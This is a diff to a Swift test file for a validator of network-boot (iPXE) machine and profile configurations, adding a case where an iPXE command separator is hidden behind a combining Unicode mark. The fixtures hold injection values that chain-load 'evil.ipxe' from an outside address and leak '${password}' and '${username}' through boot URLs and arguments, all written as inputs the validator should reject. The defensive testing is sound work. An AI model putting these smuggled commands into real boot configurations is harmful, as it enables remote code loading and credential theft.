@@ -145,6 +145,10 @@ struct DiagnosticTests {
              files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                               extra: "  kernelArgs: \"quiet && chain http://198.18.0.66/evil.ipxe\"\n")],
              expected: [("m.yaml:8:15", "'spec.kernelArgs' must not contain the word '&&': iPXE would read it as a command of its own")]),
+        Case(name: "an iPXE command separator after a space that carries a combining mark",
+             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
+                                              extra: "  kernelArgs: \"quiet && \\u0301chain http://198.18.0.66/evil.ipxe\"\n")],
+             expected: [("m.yaml:8:15", "'spec.kernelArgs' must not contain the word '&&'")]),
         Case(name: "an iPXE setting in a profile's boot args and kernel URL",
              files: ["p.yaml": Sample.profile.replacingOccurrences(of: "/linux", with: "/${password}/linux")
                         + "\n    args: \"auto=true leak=${username}\"\n"],
